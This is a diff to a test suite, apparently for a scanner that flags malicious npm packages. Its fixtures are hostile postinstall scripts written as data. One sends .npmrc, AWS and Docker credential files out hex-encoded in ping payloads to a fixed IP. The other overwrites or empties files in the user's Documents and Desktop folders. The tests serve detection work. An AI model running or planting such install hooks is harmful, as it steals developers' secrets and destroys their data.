@@ -81,3 +81,89 @@ describe('a download run by code a user calls: the address and the start written
     expect(ruleOf(r, 'js.drop-and-run')?.confidence).toBe(0.75);
   });
 });
+
+describe('an install script that sends credential files by ping payloads from a function run in a subshell', () => {
+  const script = (call: string) =>
+    [
+      '#!/bin/sh',
+      'DEST=198.51.100.23',
+      'OUT=$(mktemp)',
+      'collect() {',
+      '  for item in .npmrc .aws/credentials .docker/config.json; do',
+      '    [ -f "$HOME/$item" ] && cat "$HOME/$item" >> "$OUT"',
+      '  done',
+      '  xxd -p "$OUT" | while read -r chunk; do ping -c1 -p "$chunk" "$DEST" >/dev/null; done',
+      '}',
+      call,
+    ].join('\n');
+  const pkg = (call: string) => ({
+    'package.json': JSON.stringify({
+      name: 'mtu-check',
+      version: '0.3.1',
+      scripts: { postinstall: 'sh tools/check.sh' },
+    }),
+    'tools/check.sh': script(call),
+  });
+
+  it('follows a loop over the files inside the function, called in a backgrounded subshell', () => {
+    const r = analyzeSource(pkg('( collect ) >/dev/null 2>&1 &'));
+    expect(ruleOf(r, 'script.secret-file-exfil')?.confidence).toBeGreaterThanOrEqual(0.9);
+    expect(r.risk_level).toBe('critical');
+  });
+  it('follows it called as a group with its output discarded', () => {
+    const r = analyzeSource(pkg('{ collect; } 2>/dev/null'));
+    expect(ruleOf(r, 'script.secret-file-exfil')?.confidence).toBeGreaterThanOrEqual(0.9);
+  });
+  it('stays quiet when the function only checks that the files exist', () => {
+    const quiet = {
+      ...pkg('( collect ) >/dev/null 2>&1 &'),
+      'tools/check.sh': [
+        '#!/bin/sh',
+        'check() {',
+        '  for item in .npmrc .aws/credentials; do',
+        '    [ -f "$HOME/$item" ] && echo "found $item"',
+        '  done',
+        '  ping -c1 198.51.100.23 >/dev/null && echo reachable',
+        '}',
+        '( check ) >/dev/null 2>&1 &',
+      ].join('\n'),
+    };
+    expect(ruleOf(analyzeSource(quiet), 'script.secret-file-exfil')).toBeUndefined();
+  });
+});
+
+describe('a home folder named by a variable: parameter expansions and a `cd` before listing', () => {
+  const pkg = (body: string[]) => ({
+    'package.json': JSON.stringify({
+      name: 'tidy-folders',
+      version: '1.0.0',
+      scripts: { postinstall: 'sh scripts/tidy.sh Documents Desktop' },
+    }),
+    'scripts/tidy.sh': ['#!/bin/sh', 'for d in "$@"; do', ...body, 'done'].join('\n'),
+  });
+  it('reads `${d%/}` as the variable', () => {
+    const r = analyzeSource(
+      pkg([
+        '  find "$HOME/${d%/}" -type f | while read -r f; do',
+        '    head -c 4096 /dev/urandom > "$f"',
+        '  done',
+      ]),
+    );
+    expect(ruleOf(r, 'script.destructive')?.confidence).toBeGreaterThanOrEqual(0.9);
+  });
+  it('reads `find .` after `cd "$HOME/$d"` as a listing of that folder', () => {
+    const r = analyzeSource(
+      pkg(['  cd "$HOME/$d" || continue', '  find . -type f | while read -r f; do : > "$f"; done']),
+    );
+    expect(ruleOf(r, 'script.destructive')?.confidence).toBeGreaterThanOrEqual(0.9);
+  });
+  it('stays quiet when the listing after the `cd` picks old logs by name and age', () => {
+    const r = analyzeSource(
+      pkg([
+        '  cd "$HOME/$d" || continue',
+        '  find . -name \'*.log\' -mtime +7 | while read -r f; do : > "$f"; done',
+      ]),
+    );
+    expect(ruleOf(r, 'script.destructive')).toBeUndefined();
+  });
+});
